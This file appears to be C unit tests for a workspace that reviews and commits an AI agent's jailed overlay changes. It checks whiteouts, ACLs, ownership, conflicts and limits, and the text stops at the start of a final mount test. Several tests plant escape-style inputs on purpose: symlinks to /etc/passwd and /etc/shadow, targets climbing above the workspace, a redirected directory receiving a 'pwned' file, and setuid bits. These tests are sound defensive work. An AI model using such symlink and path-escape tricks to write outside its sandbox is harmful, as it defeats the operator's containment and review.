/* SPDX-License-Identifier: Apache-2.0 */
/* Overlay workspace: diffing an upper dir against lower, and committing it. Real trees in a
 * temp dir; whiteouts and opaque dirs are made as overlayfs makes them (mknod 0/0, the
 * trusted.overlay.opaque xattr), which needs root: CI runs the unit tests as root. */
#include <criterion/criterion.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "util/fd.h"
#include "workspace.h"

static char root[64], lower[96], upper[96], outside[96];
static int lower_fd = -1, upper_fd = -1;
static bool lower_mounted; /* small_lower(): unmounted before the tree is removed */

static void setup(void)
{
        snprintf(root, sizeof(root), "/tmp/aj-ws-XXXXXX");
        cr_assert_not_null(mkdtemp(root));
        snprintf(lower, sizeof(lower), "%s/lower", root);
        snprintf(upper, sizeof(upper), "%s/upper", root);
        snprintf(outside, sizeof(outside), "%s/outside", root);
        cr_assert_eq(mkdir(lower, 0755), 0);
        cr_assert_eq(mkdir(upper, 0755), 0);
        cr_assert_eq(mkdir(outside, 0755), 0);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        upper_fd = open(upper, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);
        cr_assert_geq(upper_fd, 0);
}

static void teardown(void)
{
        if (lower_fd >= 0)
                close(lower_fd);
        if (upper_fd >= 0)
                close(upper_fd);
        if (lower_mounted)
                umount2(lower, MNT_DETACH);
        aj_rm_rf(root);
}

TestSuite(workspace, .init = setup, .fini = teardown);

static const char *at(const char *base, const char *rel)
{
        static char bufs[4][512];
        static int next;
        char *b = bufs[next++ % 4];
        snprintf(b, sizeof(bufs[0]), "%s/%s", base, rel);
        return b;
}

static void put(const char *base, const char *rel, const char *content, mode_t mode)
{
        const char *p = at(base, rel);
        cr_assert_eq(aj_write_file_atomic(p, content, strlen(content), 0600), 0, "writing %s", p);
        cr_assert_eq(chmod(p, mode), 0);
}

static void mkd(const char *base, const char *rel, mode_t mode)
{
        const char *p = at(base, rel);
        cr_assert_eq(mkdir(p, mode), 0, "mkdir %s: %s", p, strerror(errno));
        cr_assert_eq(chmod(p, mode), 0);
}

static void whiteout(const char *rel)
{
        const char *p = at(upper, rel);
        if (mknod(p, S_IFCHR | 0000, makedev(0, 0)) < 0)
                cr_assert_fail("mknod(%s, S_IFCHR, 0/0) for a whiteout failed: %s (the unit tests need root)", p,
                               strerror(errno));
}

static void opaque(const char *rel)
{
        const char *p = at(upper, rel);
        if (setxattr(p, "trusted.overlay.opaque", "y", 1, 0) < 0)
                cr_assert_fail("setxattr(%s, trusted.overlay.opaque) failed: %s (the unit tests need root)", p,
                               strerror(errno));
}

static char *slurp(const char *base, const char *rel)
{
        char *text = NULL;
        cr_assert_eq(aj_read_file(at(base, rel), 1 << 20, &text, NULL), 0, "reading %s/%s", base, rel);
        return text;
}

static void assert_content(const char *base, const char *rel, const char *want)
{
        char *text = slurp(base, rel);
        cr_assert_str_eq(text, want, "%s/%s", base, rel);
        free(text);
}

static bool exists(const char *base, const char *rel)
{
        struct stat st;
        return lstat(at(base, rel), &st) == 0;
}

static struct stat lstat_of(const char *base, const char *rel)
{
        struct stat st;
        cr_assert_eq(lstat(at(base, rel), &st), 0, "lstat %s/%s: %s", base, rel, strerror(errno));
        return st;
}

static size_t diff(AjWsChange **ret, uint64_t since_ns)
{
        size_t n = 0;
        AjError err = {};
        int r = aj_ws_diff(upper_fd, lower_fd, since_ns, ret, &n, &err);
        cr_assert_eq(r, 0, "aj_ws_diff: %d %s", r, aj_error_text(&err, r));
        return n;
}

static AjWsStats commit(uint64_t since_ns, bool force)
{
        AjWsStats stats;
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, since_ns, force ? AJ_WS_COMMIT_FORCE : 0, &stats, &err);
        cr_assert_eq(r, 0, "aj_ws_commit: %d %s", r, aj_error_text(&err, r));
        return stats;
}

static void assert_change(const AjWsChange *c, const char *path, AjWsChangeKind kind, mode_t type)
{
        cr_assert_str_eq(c->path, path);
        cr_assert_eq(c->kind, kind, "%s: kind %s", path, aj_ws_kind_name(c->kind));
        cr_assert_eq(c->type, type, "%s: type %s", path, aj_ws_type_name(c->type));
}

static uint64_t now_ns(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_REALTIME, &ts);
        return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

Test(workspace, added_file)
{
        put(lower, "keep.txt", "keep", 0644);
        put(upper, "new.txt", "hello", 0640);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        assert_change(&c[0], "new.txt", AJ_WS_ADDED, S_IFREG);
        cr_assert_eq(c[0].size, 5);
        cr_assert_not(c[0].conflict);
        cr_assert_not(c[0].skipped);
        cr_assert_null(c[0].note);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.added, 1);
        cr_assert_eq(s.modified + s.deleted + s.replaced + s.skipped, 0);
        assert_content(lower, "new.txt", "hello");
        assert_content(lower, "keep.txt", "keep");
        cr_assert_eq(lstat_of(lower, "new.txt").st_mode & 07777, 0640);
}

Test(workspace, added_dir_with_content_sorted)
{
        mkd(upper, "n", 0750);
        put(upper, "n/f", "f", 0644);
        mkd(upper, "n/m", 0755);
        put(upper, "n/m/g", "gg", 0600);
        whiteout("n/wh"); /* nothing below an added directory to delete */
        put(upper, "n-x", "x", 0644);
        put(upper, "a", "a", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 6);
        assert_change(&c[0], "a", AJ_WS_ADDED, S_IFREG);
        assert_change(&c[1], "n", AJ_WS_ADDED, S_IFDIR);
        assert_change(&c[2], "n/f", AJ_WS_ADDED, S_IFREG);
        assert_change(&c[3], "n/m", AJ_WS_ADDED, S_IFDIR);
        assert_change(&c[4], "n/m/g", AJ_WS_ADDED, S_IFREG);
        cr_assert_eq(c[4].size, 2);
        assert_change(&c[5], "n-x", AJ_WS_ADDED, S_IFREG);
        cr_assert_eq(c[1].size, 0);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.added, 6);
        cr_assert_eq(lstat_of(lower, "n").st_mode, S_IFDIR | 0750);
        assert_content(lower, "n/f", "f");
        assert_content(lower, "n/m/g", "gg");
        cr_assert_eq(lstat_of(lower, "n/m/g").st_mode, S_IFREG | 0600);
        cr_assert_not(exists(lower, "n/wh"));
}

Test(workspace, modified_file_content_and_mtime)
{
        mkd(lower, "src", 0755);
        put(lower, "src/main.c", "old", 0644);
        mkd(upper, "src", 0755);
        put(upper, "src/main.c", "new content", 0644);
        struct timespec times[2] = { { 1500000000, 0 }, { 1500000123, 456 } };
        cr_assert_eq(utimensat(AT_FDCWD, at(upper, "src/main.c"), times, 0), 0);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        assert_change(&c[0], "src/main.c", AJ_WS_MODIFIED, S_IFREG);
        cr_assert_eq(c[0].size, 11);
        aj_ws_changes_free(c, n);

        ino_t before = lstat_of(lower, "src/main.c").st_ino;
        AjWsStats s = commit(0, false);
        cr_assert_eq(s.modified, 1);
        assert_content(lower, "src/main.c", "new content");
        struct stat st = lstat_of(lower, "src/main.c");
        cr_assert_eq(st.st_mtim.tv_sec, 1500000123);
        cr_assert_eq(st.st_mtim.tv_nsec, 456);
        cr_assert_neq(st.st_ino, before, "written to a temporary file and renamed over");

        /* No temporary file is left behind. */
        int fd = open(at(lower, "src"), O_RDONLY | O_DIRECTORY);
        DIR *d = fdopendir(fd);
        struct dirent *de;
        int count = 0;
        while ((de = readdir(d)))
                if (de->d_name[0] != '.' || strncmp(de->d_name, ".aj-ws-", 7) == 0)
                        count++;
        closedir(d);
        cr_assert_eq(count, 1);
}

/* A POSIX access ACL as the kernel stores it (system.posix_acl_access): owner rw, the named
 * user `uid` rw, the owning group `group_perm`, the mask rw, others nothing; its size. */
static size_t acl_value(uint8_t out[44], uint32_t uid, uint16_t group_perm)
{
        static const struct {
                uint16_t tag;
                bool named;
        } order[] = { { 0x01, false }, { 0x02, true }, { 0x04, false }, { 0x10, false }, { 0x20, false } };
        uint16_t perms[] = { 6, 6, group_perm, 6, 0 };
        uint32_t version = 2;
        memcpy(out, &version, 4); /* little-endian, as x86 stores it */
        for (size_t i = 0; i < ARRAY_SIZE(order); i++) {
                uint8_t *e = out + 4 + i * 8;
                uint32_t id = order[i].named ? uid : UINT32_MAX;
                memcpy(e, &order[i].tag, 2);
                memcpy(e + 2, &perms[i], 2);
                memcpy(e + 4, &id, 4);
        }
        return 44;
}

/* A changed file is written anew and renamed over the lower one: it keeps the lower file's
 * access ACL (its named user's access; its owning group's nothing, while the mode's group
 * bits, the mask, say rw), or none when the lower file had none, not the default ACL its
 * directory gives new files; the mode is applied as a chmod would be (owner, mask, other). */
Test(workspace, a_changed_file_keeps_its_acl)
{
        uint8_t want[44], got[64];
        size_t len = acl_value(want, 65534, 0);
        mkd(lower, "d", 0755);
        put(lower, "d/shared.txt", "old", 0600);
        if (setxattr(at(lower, "d/shared.txt"), "system.posix_acl_access", want, len, 0) < 0)
                cr_skip_test("no POSIX ACLs on %s: %s", lower, strerror(errno));
        cr_assert_eq(lstat_of(lower, "d/shared.txt").st_mode & 0777, 0660, "the group bits are the mask");
        put(lower, "d/plain.txt", "old", 0640);
        put(lower, "d/narrowed.txt", "old", 0600);
        cr_assert_eq(setxattr(at(lower, "d/narrowed.txt"), "system.posix_acl_access", want, len, 0), 0);
        /* New files in d get a named user's access by default. */
        cr_assert_eq(setxattr(at(lower, "d"), "system.posix_acl_default", want, len, 0), 0);
        mkd(upper, "d", 0755);
        put(upper, "d/shared.txt", "new", 0660); /* as a copy-up without the ACL shows it */
        put(upper, "d/plain.txt", "new", 0640);
        put(upper, "d/narrowed.txt", "new", 0600); /* the agent's chmod g-rw */
        AjWsStats s = commit(0, false);
        cr_assert_eq(s.modified, 3);
        assert_content(lower, "d/shared.txt", "new");

        ssize_t n = getxattr(at(lower, "d/shared.txt"), "system.posix_acl_access", got, sizeof(got));
        cr_assert_eq(n, (ssize_t)len, "the lower file's ACL is kept: %s", n < 0 ? strerror(errno) : "another size");
        cr_expect_eq(memcmp(got, want, len), 0, "as it was: the owning group is given nothing");
        cr_expect_eq(lstat_of(lower, "d/shared.txt").st_mode & 0777, 0660);

        n = getxattr(at(lower, "d/narrowed.txt"), "system.posix_acl_access", got, sizeof(got));
        cr_assert_eq(n, (ssize_t)len);
        uint8_t narrowed[44];
        acl_value(narrowed, 65534, 0);
        narrowed[4 + 3 * 8 + 2] = 0; /* the mask, from the mode's group bits */
        cr_expect_eq(memcmp(got, narrowed, len), 0, "the mode narrows the mask, the entries kept");
        cr_expect_eq(lstat_of(lower, "d/narrowed.txt").st_mode & 0777, 0600);

        cr_expect_eq(getxattr(at(lower, "d/plain.txt"), "system.posix_acl_access", got, sizeof(got)), -1,
                     "a file without an ACL gets none from its directory's default");
        cr_expect_eq(errno, ENODATA);
        cr_expect_eq(lstat_of(lower, "d/plain.txt").st_mode & 0777, 0640);
}

Test(workspace, deleted_file)
{
        put(lower, "gone.txt", "bye", 0644);
        put(lower, "stays.txt", "hi", 0644);
        whiteout("gone.txt");
        whiteout("never-was.txt"); /* nothing in lower: not a change */

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        assert_change(&c[0], "gone.txt", AJ_WS_DELETED, S_IFREG);
        cr_assert_eq(c[0].size, 0);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.deleted, 1);
        cr_assert_not(exists(lower, "gone.txt"));
        cr_assert(exists(lower, "stays.txt"));
}

Test(workspace, deleted_dir_recursive)
{
        mkd(lower, "d", 0755);
        put(lower, "d/x", "x", 0644);
        mkd(lower, "d/e", 0755);
        put(lower, "d/e/y", "y", 0644);
        mkd(lower, "d/e/f", 0700);
        cr_assert_eq(symlink("/etc", at(lower, "d/e/f/etc")), 0);
        whiteout("d");

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        assert_change(&c[0], "d", AJ_WS_DELETED, S_IFDIR);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.deleted, 1);
        cr_assert_not(exists(lower, "d"));
        cr_assert(exists("/etc", "passwd"), "a symlink inside is removed, not followed");
}

Test(workspace, opaque_dir_replaced)
{
        mkd(lower, "o", 0755);
        put(lower, "o/old1", "1", 0644);
        put(lower, "o/same", "lower", 0644);
        mkd(lower, "o/sub", 0755);
        put(lower, "o/sub/old2", "2", 0644);
        mkd(upper, "o", 0755);
        opaque("o");
        put(upper, "o/new", "new", 0644);
        put(upper, "o/same", "upper", 0644);
        whiteout("o/old1"); /* the lower contents are gone anyway */

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 3);
        assert_change(&c[0], "o", AJ_WS_REPLACED, S_IFDIR);
        cr_assert_null(c[0].note);
        assert_change(&c[1], "o/new", AJ_WS_ADDED, S_IFREG);
        assert_change(&c[2], "o/same", AJ_WS_ADDED, S_IFREG);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.replaced, 1);
        cr_assert_eq(s.added, 2);
        cr_assert_not(exists(lower, "o/old1"));
        cr_assert_not(exists(lower, "o/sub"));
        assert_content(lower, "o/new", "new");
        assert_content(lower, "o/same", "upper");
}

Test(workspace, symlink_added_not_followed)
{
        struct stat passwd_before = lstat_of("/etc", "passwd");
        put(lower, "cfg", "a file", 0644);
        cr_assert_eq(symlink("/etc/passwd", at(upper, "passwd")), 0);
        cr_assert_eq(symlink("/etc/shadow", at(upper, "cfg")), 0); /* a file turned into a symlink */

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        assert_change(&c[0], "cfg", AJ_WS_MODIFIED, S_IFLNK);
        cr_assert_str_eq(c[0].note, "replaces a file");
        assert_change(&c[1], "passwd", AJ_WS_ADDED, S_IFLNK);
        cr_assert_eq(c[1].size, 0);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.added, 1);
        cr_assert_eq(s.modified, 1);
        char target[256];
        ssize_t len = readlink(at(lower, "passwd"), target, sizeof(target) - 1);
        cr_assert_eq(len, 11);
        target[len] = 0;
        cr_assert_str_eq(target, "/etc/passwd");
        cr_assert(S_ISLNK(lstat_of(lower, "cfg").st_mode));
        struct stat passwd_after = lstat_of("/etc", "passwd");
        cr_assert_eq(passwd_after.st_ino, passwd_before.st_ino);
        cr_assert_eq(passwd_after.st_size, passwd_before.st_size);
        cr_assert_eq(passwd_after.st_mtim.tv_sec, passwd_before.st_mtim.tv_sec);
        cr_assert_eq(passwd_after.st_mtim.tv_nsec, passwd_before.st_mtim.tv_nsec);
}

/* Where the agent's symlinks point is part of the review: diff carries each target and
 * marks one that leaves the workspace by its text (absolute, or ".." above the top), which
 * an editor or a build the operator runs once it is committed would follow. */
Test(workspace, symlink_targets_shown_and_outside_marked)
{
        static const struct {
                const char *path, *target;
                bool outside;
        } links[] = {
                { "a/in", "../x", false },           { "a/out", "../../x", true },   { "abs", "/etc", true },
                { "a/b/dots", "./../../y", false },  { "climb", "a/../../z", true }, { "down", "a/../b", false },
                { "a/b/deep", "../../../..", true },
        };
        mkd(upper, "a", 0755);
        mkd(upper, "a/b", 0755);
        for (size_t i = 0; i < ARRAY_SIZE(links); i++)
                cr_assert_eq(symlink(links[i].target, at(upper, links[i].path)), 0);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, ARRAY_SIZE(links) + 2);
        for (size_t i = 0; i < ARRAY_SIZE(links); i++) {
                const AjWsChange *hit = NULL;
                for (size_t k = 0; k < n; k++)
                        if (streq(c[k].path, links[i].path))
                                hit = &c[k];
                cr_assert_not_null(hit, "%s", links[i].path);
                cr_expect_str_eq(hit->target, links[i].target, "%s", links[i].path);
                cr_expect_eq(hit->outside, links[i].outside, "%s -> %s", links[i].path, links[i].target);
        }
        cr_expect_null(c[0].target, "a directory has no target");
        for (size_t k = 0; k < n; k++)
                if (streq(c[k].path, "abs")) {
                        json_t *o = aj_ws_change_json(&c[k]);
                        char *one = json_dumps(o, JSON_COMPACT);
                        cr_expect_str_eq(one, "{\"path\":\"abs\",\"change\":\"added\",\"type\":\"symlink\",\"size\":0,"
                                              "\"conflict\":false,\"target\":\"/etc\",\"outside\":true}");
                        free(one);
                        json_decref(o);
                }
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_expect_eq(s.outside, 4);
}

Test(workspace, copied_up_parents_not_listed)
{
        mkd(lower, "a", 0755);
        mkd(lower, "a/b", 0755);
        put(lower, "a/b/c.txt", "c", 0644);
        put(lower, "a/b/other.txt", "o", 0644);
        mkd(lower, "m", 0755);
        put(lower, "m/x", "x", 0644);
        mkd(upper, "a", 0755);
        mkd(upper, "a/b", 0755);
        put(upper, "a/b/c.txt", "C", 0644);
        mkd(upper, "m", 0700); /* chmod in the jail: copied up with a new mode */
        mkd(upper, "empty", 0755);
        mkd(lower, "empty", 0755); /* copied up, then what changed below was removed again */

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        assert_change(&c[0], "a/b/c.txt", AJ_WS_MODIFIED, S_IFREG);
        assert_change(&c[1], "m", AJ_WS_MODIFIED, S_IFDIR);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.modified, 2);
        assert_content(lower, "a/b/c.txt", "C");
        assert_content(lower, "a/b/other.txt", "o");
        cr_assert_eq(lstat_of(lower, "m").st_mode & 07777, 0700);
        assert_content(lower, "m/x", "x");
}

Test(workspace, setuid_setgid_sticky_cleared)
{
        put(lower, "existing", "e", 0644);
        put(upper, "tool", "#!/bin/sh\n", 04755);
        put(upper, "sticky", "s", 01644);
        put(upper, "existing", "E", 06755);
        mkd(upper, "shared", 03775);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.added, 3);
        cr_assert_eq(s.modified, 1);
        cr_assert_eq(lstat_of(lower, "tool").st_mode, S_IFREG | 0755);
        cr_assert_eq(lstat_of(lower, "sticky").st_mode, S_IFREG | 0644);
        cr_assert_eq(lstat_of(lower, "existing").st_mode, S_IFREG | 0755);
        cr_assert_eq(lstat_of(lower, "shared").st_mode, S_IFDIR | 01775, "sticky stays on a directory");
}

Test(workspace, ownership_from_lower_root)
{
        cr_assert_eq(chown(lower, 1234, 2345), 0);
        put(lower, "theirs", "t", 0644);
        cr_assert_eq(chown(at(lower, "theirs"), 4321, 4322), 0);

        put(upper, "file", "f", 0644);
        mkd(upper, "dir", 0755);
        put(upper, "dir/inner", "i", 0644);
        cr_assert_eq(symlink("file", at(upper, "link")), 0);
        put(upper, "theirs", "T", 0644);
        const char *jailed[] = { "file", "dir", "dir/inner", "link", "theirs" };
        for (size_t i = 0; i < sizeof(jailed) / sizeof(jailed[0]); i++)
                cr_assert_eq(lchown(at(upper, jailed[i]), 100000, 100000), 0);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.added, 4);
        cr_assert_eq(s.modified, 1);
        for (size_t i = 0; i < 4; i++) {
                struct stat st = lstat_of(lower, jailed[i]);
                cr_assert_eq(st.st_uid, 1234, "%s: uid %u", jailed[i], (unsigned)st.st_uid);
                cr_assert_eq(st.st_gid, 2345, "%s: gid %u", jailed[i], (unsigned)st.st_gid);
        }
        struct stat st = lstat_of(lower, "theirs");
        cr_assert_eq(st.st_uid, 4321, "a modified file keeps its owner");
        cr_assert_eq(st.st_gid, 4322);
        assert_content(lower, "theirs", "T");
}

Test(workspace, conflict_detection)
{
        put(lower, "f.txt", "old", 0644);
        put(lower, "g.txt", "g", 0644);
        mkd(lower, "d", 0755);
        mkd(lower, "d/deep", 0755);
        put(lower, "d/deep/x", "x", 0644);
        put(upper, "f.txt", "new", 0644);
        put(upper, "g.txt", "G", 0644);
        put(upper, "added.txt", "a", 0644);
        whiteout("d");

        uint64_t since = now_ns();
        /* Someone edits the workspace during the run. */
        struct timespec future[2] = { { 0, UTIME_OMIT }, { (time_t)(since / 1000000000ull) + 3600, 0 } };
        cr_assert_eq(utimensat(AT_FDCWD, at(lower, "f.txt"), future, 0), 0);
        cr_assert_eq(utimensat(AT_FDCWD, at(lower, "d/deep/x"), future, 0), 0);

        AjWsChange *c = NULL;
        size_t n = diff(&c, since);
        cr_assert_eq(n, 4);
        assert_change(&c[0], "added.txt", AJ_WS_ADDED, S_IFREG);
        cr_assert_not(c[0].conflict);
        assert_change(&c[1], "d", AJ_WS_DELETED, S_IFDIR);
        cr_assert(c[1].conflict, "a change below a deleted directory is a conflict");
        assert_change(&c[2], "f.txt", AJ_WS_MODIFIED, S_IFREG);
        cr_assert(c[2].conflict);
        assert_change(&c[3], "g.txt", AJ_WS_MODIFIED, S_IFREG);
        cr_assert_not(c[3].conflict);
        aj_ws_changes_free(c, n);

        /* since_ns = 0: not checked. */
        n = diff(&c, 0);
        for (size_t i = 0; i < n; i++)
                cr_assert_not(c[i].conflict, "%s", c[i].path);
        aj_ws_changes_free(c, n);

        AjWsStats s;
        AjError err = {};
        cr_assert_eq(aj_ws_commit(upper_fd, lower_fd, since, 0, &s, &err), -EBUSY);
        cr_assert_not_null(err.message);
        cr_assert_not_null(strstr(err.message, "'d'"), "%s", err.message);
        cr_assert_not_null(strstr(err.message, "2 changes"), "%s", err.message);
        aj_error_clear(&err);
        assert_content(lower, "f.txt", "old");
        assert_content(lower, "g.txt", "g");
        cr_assert_not(exists(lower, "added.txt"));
        cr_assert(exists(lower, "d/deep/x"));

        s = commit(since, true);
        cr_assert_eq(s.added, 1);
        cr_assert_eq(s.modified, 2);
        cr_assert_eq(s.deleted, 1);
        assert_content(lower, "f.txt", "new");
        assert_content(lower, "g.txt", "G");
        cr_assert_not(exists(lower, "d"));
}

Test(workspace, symlink_parent_in_lower_not_followed)
{
        /* lower/link became a symlink to outside during the run: the upper directory over it
         * is not opaque, so the overlay did not make it. */
        cr_assert_eq(symlink(outside, at(lower, "link")), 0);
        mkd(upper, "link", 0755);
        put(upper, "link/evil", "pwned", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        assert_change(&c[0], "link", AJ_WS_MODIFIED, S_IFDIR);
        cr_assert_not_null(c[0].note);
        cr_assert_not_null(strstr(c[0].note, "symlink"), "%s", c[0].note);
        assert_change(&c[1], "link/evil", AJ_WS_ADDED, S_IFREG);
        aj_ws_changes_free(c, n);

        AjWsStats s;
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, AJ_WS_COMMIT_FORCE, &s, &err);
        cr_assert(r == -ELOOP || r == -ENOTDIR, "r = %d", r);
        cr_assert_not_null(err.message);
        cr_assert_not_null(strstr(err.message, "'link'"), "%s", err.message);
        aj_error_clear(&err);
        cr_assert_not(exists(outside, "evil"));
        cr_assert(S_ISLNK(lstat_of(lower, "link").st_mode));
}

Test(workspace, symlink_replaced_by_opaque_dir)
{
        /* The agent removed lower/link (a symlink to outside) and made a directory there: the
         * overlay made it opaque. The symlink is replaced, never written through. */
        cr_assert_eq(symlink(outside, at(lower, "link")), 0);
        mkd(upper, "link", 0755);
        opaque("link");
        put(upper, "link/file", "mine", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 2);
        assert_change(&c[0], "link", AJ_WS_REPLACED, S_IFDIR);
        cr_assert_str_eq(c[0].note, "replaces a symlink");
        assert_change(&c[1], "link/file", AJ_WS_ADDED, S_IFREG);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.replaced, 1);
        cr_assert_eq(s.added, 1);
        cr_assert(S_ISDIR(lstat_of(lower, "link").st_mode));
        assert_content(lower, "link/file", "mine");
        cr_assert_not(exists(outside, "file"));
}

Test(workspace, file_replaces_dir)
{
        mkd(lower, "x", 0755);
        put(lower, "x/inside", "i", 0644);
        put(upper, "x", "now a file", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 1);
        assert_change(&c[0], "x", AJ_WS_MODIFIED, S_IFREG);
        cr_assert_str_eq(c[0].note, "replaces a directory");
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.modified, 1);
        assert_content(lower, "x", "now a file");
}

Test(workspace, fifo_and_device_skipped)
{
        cr_assert_eq(mkfifo(at(upper, "pipe"), 0644), 0);
        if (mknod(at(upper, "null"), S_IFCHR | 0666, makedev(1, 3)) < 0)
                cr_assert_fail("mknod of a device failed: %s (the unit tests need root)", strerror(errno));
        put(upper, "real", "r", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 3);
        assert_change(&c[0], "null", AJ_WS_ADDED, S_IFCHR);
        cr_assert(c[0].skipped);
        assert_change(&c[1], "pipe", AJ_WS_ADDED, S_IFIFO);
        cr_assert(c[1].skipped);
        cr_assert_str_eq(c[1].note, "a fifo: not applied");
        cr_assert_not(c[2].skipped);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_assert_eq(s.skipped, 2);
        cr_assert_eq(s.added, 1);
        cr_assert_not(exists(lower, "pipe"));
        cr_assert_not(exists(lower, "null"));
        cr_assert(exists(lower, "real"));
}

Test(workspace, json_shape)
{
        put(lower, "old", "o", 0644);
        put(upper, "file", "12345", 0644);
        whiteout("old");
        cr_assert_eq(mkfifo(at(upper, "pipe"), 0644), 0);
        put(upper, "bad\xff", "b", 0644);
        /* Spelled as the escaped form of the name above: the JSON must tell them apart. */
        put(upper, "bad\\xff", "c", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 5);
        json_t *j = aj_ws_changes_json(c, n);
        aj_ws_changes_free(c, n);
        cr_assert(json_is_array(j));
        cr_assert_eq(json_array_size(j), 5);

        char *text = json_dumps(j, JSON_COMPACT);
        cr_assert_not_null(text);
        cr_assert_str_eq(text,
                         "[{\"path\":\"bad\\\\xff\",\"change\":\"added\",\"type\":\"file\",\"size\":1,"
                         "\"conflict\":false,\"mode\":\"0644\"},"
                         "{\"path\":\"bad\\\\xff\",\"change\":\"added\",\"type\":\"file\",\"size\":1,"
                         "\"conflict\":false,\"path_exact\":false,\"path_hex\":\"626164ff\",\"mode\":\"0644\"},"
                         "{\"path\":\"file\",\"change\":\"added\",\"type\":\"file\",\"size\":5,\"conflict\":false,"
                         "\"mode\":\"0644\"},"
                         "{\"path\":\"old\",\"change\":\"deleted\",\"type\":\"file\",\"size\":0,\"conflict\":false},"
                         "{\"path\":\"pipe\",\"change\":\"added\",\"type\":\"fifo\",\"size\":0,\"conflict\":false,"
                         "\"skipped\":true,\"note\":\"a fifo: not applied\"}]");
        free(text);
        json_decref(j);

        j = aj_ws_changes_json(NULL, 0);
        cr_assert(json_is_array(j));
        cr_assert_eq(json_array_size(j), 0);
        json_decref(j);
}

Test(workspace, depth_limit)
{
        int fd = dup(upper_fd);
        for (int i = 0; i < AJ_WS_MAX_DEPTH + 4; i++) {
                cr_assert_eq(mkdirat(fd, "d", 0755), 0);
                int next = openat(fd, "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                cr_assert_geq(next, 0);
                close(fd);
                fd = next;
        }
        close(fd);

        AjWsChange *c = NULL;
        size_t n = 0;
        AjError err = {};
        cr_assert_eq(aj_ws_diff(upper_fd, lower_fd, 0, &c, &n, &err), -ELOOP);
        cr_assert_not_null(err.message);
        cr_assert_not_null(strstr(err.message, "more than 256 directories deep"), "%s", err.message);
        cr_assert_eq(strncmp(err.message, "'d/d/d/", 7), 0, "%s", err.message);
        aj_error_clear(&err);

        cr_assert_eq(aj_ws_commit(upper_fd, lower_fd, 0, 0, NULL, &err), -ELOOP);
        aj_error_clear(&err);
        cr_assert_not(exists(lower, "d"), "nothing applied");
}

/* The agent's names, each up to PATH_MAX long, are held by the operator's process: 100,000
 * of 3.8 KB took 380 MB in `diff`, 1.6 GB with --json, and 4 Mi changes were allowed. Past
 * AJ_WS_MAX_PATH_BYTES of them the diff stops: 17,000 files of 3,981-byte paths here. */
Test(workspace, path_bytes_limit)
{
        char name[256];
        memset(name, 'n', 250);
        name[250] = 0;
        int fd = dup(upper_fd);
        for (int i = 0; i < 15; i++) {
                cr_assert_eq(mkdirat(fd, name, 0755), 0);
                int next = openat(fd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                cr_assert_geq(next, 0);
                close(fd);
                fd = next;
        }
        for (int i = 0; i < 17000; i++) {
                snprintf(name, sizeof(name), "%0200d", i);
                int f = openat(fd, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
                cr_assert_geq(f, 0, "%s", strerror(errno));
                close(f);
        }
        close(fd);

        AjWsChange *c = NULL;
        size_t n = 0;
        AjError err = {};
        int r = aj_ws_diff(upper_fd, lower_fd, 0, &c, &n, &err);
        if (r == 0)
                aj_ws_changes_free(c, n);
        cr_assert_eq(r, -E2BIG, "r = %d, %zu changes", r, n);
        cr_assert_not_null(strstr(err.message, "more than 64 MiB of paths"), "%s", err.message);
        aj_error_clear(&err);
}

Test(workspace, removal_never_crosses_a_mount)
{
        /* A private mount namespace: this test process's mounts go away with it. */
